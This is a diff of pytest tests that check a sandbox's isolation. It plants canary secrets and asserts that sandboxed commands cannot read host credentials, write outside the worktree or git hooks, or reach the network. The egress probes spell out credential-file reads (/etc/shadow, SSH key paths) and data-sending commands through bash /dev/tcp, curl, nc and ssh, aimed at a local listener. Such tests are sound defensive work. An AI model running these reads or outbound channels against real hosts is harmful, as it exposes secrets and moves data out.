@@ -5,6 +5,7 @@ Run without Django: python -m pytest -p no:django -p no:cacheprovider tests/infr
 
 from __future__ import annotations
 
+import contextlib
 import os
 import shutil
 import socket
@@ -12,7 +13,9 @@ import stat
 import subprocess
 import sys
 import tempfile
+import threading
 import time
+import uuid
 from collections.abc import Iterator
 from dataclasses import dataclass
 from pathlib import Path
@@ -404,6 +407,82 @@ def test_a_planted_canary_outside_the_worktree_is_not_readable(dirs: Dirs) -> No
     assert result.stderr.count(b"No such file or directory") == 2
 
 
+def test_none_of_the_hosts_secrets_is_readable_from_the_sandbox(dirs: Dirs) -> None:
+    """Row S2: a canary in each place a secret lives, readable by anyone on the host (0644),
+    so only the sandbox's own filesystem keeps it out: 0 of 5 read."""
+    mark = uuid.uuid4().hex
+    root = Path(__file__).resolve().parents[2]
+    other = dirs.base / "other-run"  # another run's worktree, handed to the same uid
+    sandbox_prepare_dir(other, dirs.identity)
+    ssh = Path.home() / ".ssh"
+    made_ssh = not ssh.exists()
+    places = {
+        "ssh key": ssh / f"id_ed25519.canary-{mark}",
+        "service .env": root / f".env.canary-{mark}",
+        "settings folder": root / "infraops" / f"secrets.canary-{mark}",
+        "another run's worktree": other / "secret.txt",
+    }
+    try:
+        ssh.mkdir(mode=0o700, exist_ok=True)
+        for name, path in places.items():
+            path.write_text(f"canary-{mark}-{name}\n")
+            path.chmod(0o644)
+        if IS_ROOT:
+            os.chown(places["another run's worktree"], dirs.identity.uid, dirs.identity.gid)
+        reads = [*places.values(), Path("/etc/shadow")]
+        result = run(dirs, "; ".join(f"cat {path} && echo READ {path}" for path in reads))
+    finally:
+        for path in places.values():
+            path.unlink(missing_ok=True)
+        if made_ssh:
+            shutil.rmtree(ssh, ignore_errors=True)
+    read = [line for line in result.stdout.decode().splitlines() if line.startswith("READ ")]
+    assert read == [], read
+    assert f"canary-{mark}-".encode() not in result.stdout + result.stderr  # the contents
+    assert b"root:" not in result.stdout  # /etc/shadow's first line
+    assert result.stderr.count(b"No such file or directory") == 5, result.stderr
+
+
+def test_no_write_outside_the_worktree_and_private_folders_succeeds(dirs: Dirs) -> None:
+    """Row S3: 8 places outside, each writable on the host by the sandbox uid or by root:
+    0 written; the worktree and the private tmp: written."""
+    mark = uuid.uuid4().hex
+    root = Path(__file__).resolve().parents[2]
+    other = dirs.base / "other-run"
+    sandbox_prepare_dir(other, dirs.identity)
+    hooks = dirs.work / ".git" / "hooks"
+    hooks.mkdir(parents=True)
+    (dirs.work / ".git" / "config").write_text("[core]\n")
+    if IS_ROOT:
+        for path in (hooks.parent, hooks, hooks.parent / "config"):
+            os.chown(path, dirs.identity.uid, dirs.identity.gid)
+    host_tmp = Path(tempfile.gettempdir()) / f"infraops-s3-{mark}"
+    host_tmp.mkdir(mode=0o777)
+    host_tmp.chmod(0o777)
+    outside = [Path(f"/s3-{mark}"), Path(f"/etc/s3-{mark}"), Path.home() / f"s3-{mark}",
+               root / f"s3-{mark}", host_tmp / "s3", other / f"s3-{mark}"]
+    git_files = ["/work/.git/hooks/post-checkout", "/work/.git/config"]
+    inside = ["/work/made", "/tmp/made"]
+    try:
+        writes = [str(path) for path in outside] + git_files + inside
+        result = run(dirs, "; ".join(f"echo x >> {path} && echo WROTE {path}" for path in writes))
+        written = {line.split()[1] for line in result.stdout.decode().splitlines()
+                   if line.startswith("WROTE ")}
+        left = [path for path in outside if path.exists()]
+        # Home is a private tmpfs inside (what a probe writes there goes with the sandbox):
+        # the host's home is what must stay untouched, and `left` checks it.
+        assert written - {str(Path.home() / f"s3-{mark}")} == set(inside), written
+        assert left == [], left
+        assert list(hooks.iterdir()) == []
+        assert (dirs.work / ".git" / "config").read_text() == "[core]\n"
+        assert (dirs.work / "made").exists()
+    finally:
+        shutil.rmtree(host_tmp, ignore_errors=True)
+        for path in outside:
+            with contextlib.suppress(OSError):
+                path.unlink()
+
+
 def test_writes_outside_the_worktree_fail(dirs: Dirs) -> None:
     outside = ["/usr/planted", "/etc/planted", "/planted", "/bin/planted", "/proc/planted"]
     inside = ["/work/made", "/out/made", "/tmp/made", "/var/tmp/made", "/root/made"]
@@ -684,3 +763,124 @@ def test_prepare_dir_refuses_a_folder_the_sandbox_uid_cannot_reach(dirs: Dirs) -
     assert stat.S_IMODE(private.stat().st_mode) == 0o700
     with pytest.raises(SandboxUnavailable, match="not searchable"):
         sandbox_prepare_dir(private / "work", dirs.identity)
+
+
+# --------------------------------------------------------------------------- egress, one by one
+
+
+class Listener:
+    """A host TCP server on every interface that counts the bytes it receives: a canary for
+    connections out of the sandbox that its own output would not show (ssh, curl, nc)."""
+
+    def __init__(self) -> None:
+        self.server = socket.create_server(("0.0.0.0", 0))
+        self.server.settimeout(0.2)
+        self.port = self.server.getsockname()[1]
+        self.received = b""
+        self._stop = False
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+        self._thread.start()
+
+    def _serve(self) -> None:
+        while not self._stop:
+            try:
+                peer, _ = self.server.accept()
+            except OSError:
+                continue
+            with peer:
+                peer.settimeout(1)
+                try:
+                    while chunk := peer.recv(65536):
+                        self.received += chunk
+                except OSError:
+                    pass
+
+    def bytes_before_control(self) -> bytes:
+        """What arrived before a connection the host makes now (the listener takes
+        connections in order, so once the control's bytes are in, anything earlier is too)."""
+        with socket.create_connection(("127.0.0.1", self.port), timeout=5) as control:
+            control.sendall(b"<control>")
+        deadline = time.monotonic() + 30
+        while not self.received.endswith(b"<control>") and time.monotonic() < deadline:
+            time.sleep(0.05)
+        assert self.received.endswith(b"<control>"), "the listener does not count bytes"
+        before, self.received = self.received[:-len(b"<control>")], b""
+        return before
+
+    def close(self) -> None:
+        self._stop = True
+        self.server.close()
+        self._thread.join()
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    made = Listener()
+    yield made
+    made.close()
+
+
+def host_address() -> str:
+    """The host's first address that is not loopback (where a listener on 0.0.0.0 answers
+    from the host's network namespace), else 127.0.0.1."""
+    for addresses in psutil.net_if_addrs().values():
+        for address in addresses:
+            if address.family == socket.AF_INET and not address.address.startswith("127."):
+                return str(address.address)
+    return "127.0.0.1"
+
+
+PY_CONNECT = (PYTHON + " -c 'import socket, sys; s = socket.create_connection((sys.argv[1], "
+              "int(sys.argv[2])), timeout=2); s.sendall(b\"canary\"); print(\"ESCAPED\")' ")
+
+# (name, the tool it needs or None, the command; {host} and {port} are the listener's)
+EGRESS: list[tuple[str, str | None, str]] = [
+    ("tcp-to-an-external-ip", None, PY_CONNECT + "1.1.1.1 443"),
+    ("tcp-to-the-hosts-address", None, PY_CONNECT + "{host} {port}"),
+    ("tcp-to-loopback", None, PY_CONNECT + "127.0.0.1 {port}"),
+    ("tcp-to-host-postgres", None, PY_CONNECT + "{host} 5432; " + PY_CONNECT + "127.0.0.1 5432"),
+    ("tcp-to-host-redis", None, PY_CONNECT + "{host} 6379; " + PY_CONNECT + "127.0.0.1 6379"),
+    ("postgres-unix-socket", None, PYTHON + " -c 'import socket; s = socket.socket(socket.AF_UNIX);"
+     " s.connect(\"/var/run/postgresql/.s.PGSQL.5432\"); print(\"ESCAPED\")'"),
+    ("redis-unix-socket", None, "for s in /var/run/redis/redis.sock /run/redis/redis-server.sock "
+     "/tmp/redis.sock; do [ -S $s ] && echo ESCAPED $s; done; true"),
+    ("dns", None, PYTHON + " -c 'import socket; socket.getaddrinfo(\"example.com\", 443); "
+     "print(\"ESCAPED\")'"),
+    ("getent", "getent", "getent hosts example.com && echo ESCAPED"),
+    ("ping", "ping", "ping -c 1 -W 2 {host} && echo ESCAPED"),
+    ("bash-dev-tcp", "bash", "bash -c 'echo canary > /dev/tcp/{host}/{port}' && echo ESCAPED"),
+    ("curl", "curl", "curl -sS -m 3 -d canary http://{host}:{port}/ && echo ESCAPED; "
+     "curl -sS -m 3 https://1.1.1.1/ && echo ESCAPED"),
+    ("nc", "nc", "echo canary | nc -w 2 {host} {port} && echo ESCAPED"),
+    ("ssh", "ssh", "ssh -o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no "
+     "-p {port} probe@{host} true && echo ESCAPED"),
+]
+
+
+@pytest.mark.parametrize(("tool", "command"), [(tool, command) for _, tool, command in EGRESS],
+                         ids=[name for name, _, _ in EGRESS])
+def test_each_way_out_of_the_sandbox_fails_and_the_host_listener_gets_nothing(
+        dirs: Dirs, listener: Listener, tool: str | None, command: str) -> None:
+    if tool is not None and shutil.which(tool) is None:
+        pytest.skip(f"{tool} is not installed on this host, so the sandbox has none either")
+    result = run(dirs, command.format(host=host_address(), port=listener.port))
+
+    assert b"ESCAPED" not in result.stdout, result.stdout
+    assert listener.bytes_before_control() == b""
+
+
+TO_THE_LISTENER = [(name, tool, command) for name, tool, command in EGRESS if "{port}" in command]
+
+
+@pytest.mark.parametrize(("tool", "command"), [(t, c) for _, t, c in TO_THE_LISTENER],
+                         ids=[name for name, _, _ in TO_THE_LISTENER])
+def test_the_same_attempt_made_on_the_host_reaches_the_listener(
+        listener: Listener, tool: str | None, command: str) -> None:
+    """The control: each attempt aimed at the listener works unconfined, so the sandbox
+    test's empty count means blocked, not a broken command."""
+    if tool is not None and shutil.which(tool) is None:
+        pytest.skip(f"{tool} is not installed on this host")
+    subprocess.run(command.format(host=host_address(), port=listener.port), shell=True,
+                   timeout=30, capture_output=True)
+
+    assert listener.bytes_before_control() != b""
